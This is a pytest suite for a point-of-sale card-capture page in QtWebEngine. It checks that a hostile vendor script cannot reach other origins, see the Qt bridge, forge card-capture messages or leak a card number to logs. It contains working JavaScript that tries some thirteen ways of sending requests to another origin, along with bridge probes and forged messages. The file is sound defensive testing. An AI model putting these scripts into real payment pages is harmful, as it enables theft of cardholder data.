"""The card page with a library that means ill: in the page's own world, and in the fields' frames."""

from __future__ import annotations

from typing import Any

import pytest
from PySide6.QtCore import QMetaObject, Qt
from PySide6.QtWidgets import QApplication

from pos.front.capture.form import FormPhase
from pos.front.capture.profile import CardProfile
from tests.capture.conftest import Desk
from tests.capture.vendor import Origin

pytestmark = pytest.mark.webengine

#: Every way out that a script has, each to another origin; "/told/all" comes last and goes to our own.
WAYS_OUT = """
const away = "%(away)s";
const said = (what) => fetch("%(home)s/told/" + what, {mode: "no-cors"});
const tries = [
  () => fetch(away + "/fetch", {mode: "no-cors"}),
  () => navigator.sendBeacon(away + "/beacon", "x"),
  () => { new Image().src = away + "/image"; },
  () => new WebSocket(away.replace("http", "ws") + "/socket"),
  () => new EventSource(away + "/events"),
  () => { const f = document.createElement("iframe"); f.src = away + "/frame"; document.documentElement.append(f); },
  () => { const s = document.createElement("script"); s.src = away + "/script"; document.documentElement.append(s); },
  () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = away + "/style";
          document.head.append(l); },
  () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = away + "/prefetch";
          document.head.append(l); },
  () => { const f = document.createElement("form"); f.action = away + "/form"; f.method = "post";
          document.documentElement.append(f); f.submit(); },
  () => { const x = new XMLHttpRequest(); x.open("POST", away + "/xhr"); x.send("x"); },
  () => window.open(away + "/window"),
  () => { top.location.href = away + "/top"; },
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch {} }
setTimeout(() => said("all"), 150);
"""


def ways_out(desk: Desk, elsewhere: Origin) -> str:
    return WAYS_OUT % {"away": elsewhere.url, "home": desk.vendor.url}


def test_no_way_leads_from_the_page_to_another_origin(desk: Desk, elsewhere: Origin) -> None:
    desk.vendor.mischief = ways_out(desk, elsewhere)
    desk.begin()
    desk.until(lambda: desk.vendor.told == ["all"], "all ways to be tried")
    assert elsewhere.requests == []
    assert [widget for widget in QApplication.topLevelWidgets() if widget.isVisible()] == [desk.window]


def test_no_way_leads_from_a_field_to_another_origin(desk: Desk, elsewhere: Origin) -> None:
    desk.vendor.frame_mischief = ways_out(desk, elsewhere)
    desk.begin()
    desk.until(lambda: len(desk.vendor.told) == 3, "all ways to be tried in all three fields")
    assert elsewhere.requests == []


def test_the_other_origin_would_have_heard(desk: Desk, elsewhere: Origin) -> None:
    desk.vendor.frame_mischief = ways_out(desk, elsewhere)
    desk.form.allow([elsewhere.url])
    desk.begin()
    ways = {"fetch", "image", "xhr", "beacon", "script", "style"}
    desk.until(lambda: ways <= {request.split("/")[-1] for request in elsewhere.requests}, "the ways that are open now")


REDIRECTED = """
fetch("%(home)s/away/" + "%(away)s".slice(7) + "/redirected", {mode: "no-cors"})
  .then(() => "followed", () => "stopped")
  .then((what) => fetch("%(home)s/told/" + what, {mode: "no-cors"}));
"""


def test_a_redirect_to_another_origin_does_not_leave_the_page(desk: Desk, elsewhere: Origin) -> None:
    desk.vendor.mischief = REDIRECTED % {"away": elsewhere.url, "home": desk.vendor.url}
    desk.begin()
    desk.until(lambda: desk.vendor.told == ["stopped"], "the redirect to be stopped")
    assert elsewhere.requests == []


def test_a_redirect_to_another_origin_brings_no_answer_into_a_field(desk: Desk, elsewhere: Origin) -> None:
    desk.vendor.frame_mischief = REDIRECTED % {"away": elsewhere.url, "home": desk.vendor.url}
    desk.begin()
    desk.until(lambda: desk.vendor.told == ["stopped"] * 3, "the redirects to be stopped")


def test_the_page_cannot_see_the_bridge(desk: Desk) -> None:
    desk.vendor.mischief = f"""
      const seen = [typeof qt, typeof QWebChannel, typeof card, window.length].join("-");
      fetch("{desk.vendor.url}/told/" + seen, {{mode: "no-cors"}});
    """
    desk.vendor.frame_mischief = f"""
      fetch("{desk.vendor.url}/told/" + [typeof qt, typeof QWebChannel].join("-"), {{mode: "no-cors"}});
    """
    desk.begin()
    desk.wait_for(FormPhase.READY)
    desk.until(lambda: len(desk.vendor.told) == 4, "four reports")
    # An element's id makes a global of the same name, which is none of ours.
    assert {report.replace("-object-0", "-undefined-0") for report in desk.vendor.told} == {
        "undefined-undefined-undefined-0",
        "undefined-undefined",
    }


def say(message: str) -> str:
    return f"document.dispatchEvent(new CustomEvent('till-says', {{detail: JSON.stringify({message})}}));"


def captured(attempt: int, source_id: str) -> str:
    card = '{brand: "Visa", lastFour: "1111", month: 12, year: 2030}'
    return f'{{say: "captured", attempt: {attempt}, id: "{source_id}", card: {card}}}'


@pytest.mark.parametrize(
    "said",
    [
        '{say: "return", code: "1"}',
        captured(1, "4444222233331111"),
        '{say: "run", what: "import os"}',
    ],
    ids=["unknown-member", "card-number", "unknown-message"],
)
def test_a_page_that_says_what_it_may_not_is_ended(desk: Desk, said: str) -> None:
    desk.vendor.mischief = say(said)
    desk.begin()
    desk.wait_for(FormPhase.DEAD)
    assert desk.heard["died"] == [None]
    assert desk.heard["captured"] == []


def test_a_source_that_nobody_asked_for_is_not_taken(desk: Desk) -> None:
    unasked = "5b0c8a3e-6f0d-4b56-9a51-0f6f0e3a7c11"
    desk.vendor.mischief = say(captured(1, unasked)) + say(captured(2, unasked))
    desk.open()
    assert desk.heard["captured"] == []
    assert desk.form.phase is FormPhase.READY


def test_a_page_that_goes_elsewhere_is_ended(desk: Desk) -> None:
    desk.vendor.mischief = "location.href = 'about:blank';"
    desk.begin()
    desk.wait_for(FormPhase.DEAD)
    assert desk.heard["died"] == [None]


def test_dialogues_permissions_and_the_console_come_to_nothing(
    desk: Desk, capfd: pytest.CaptureFixture[str], qtlog: Any
) -> None:
    desk.vendor.mischief = f"""
      console.error("4444222233331111");
      alert("hello");
      const answers = [confirm("yes?"), prompt("what?")];
      navigator.geolocation.getCurrentPosition(() => told("granted"), (problem) => told(problem.code));
      const told = (what) => fetch("{desk.vendor.url}/told/" + [...answers, what].join("-"), {{mode: "no-cors"}});
    """
    desk.begin()
    desk.until(lambda: desk.vendor.told != [], "an answer about the place")
    assert desk.vendor.told == ["false--1"]
    output = capfd.readouterr()
    logged = "".join(record.message for record in qtlog.records)
    assert "4444222233331111" not in output.out + output.err + logged


def test_a_bridge_that_is_deleted_from_the_other_side_ends_the_form(desk: Desk) -> None:
    desk.open()
    assert desk.form._page is not None
    # The channel lets whoever reaches the bridge call the methods of every Qt object.
    QMetaObject.invokeMethod(desk.form._page._bridge, "deleteLater", Qt.ConnectionType.QueuedConnection)
    desk.wait_for(FormPhase.DEAD)
    assert desk.heard["died"] == [None]


def test_a_page_whose_requests_nobody_sees_is_not_shown(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(CardProfile, "setUrlRequestInterceptor", lambda *_: None)
    desk.begin()
    desk.wait_for(FormPhase.DEAD)
    assert FormPhase.READY not in desk.heard["phase_changed"]
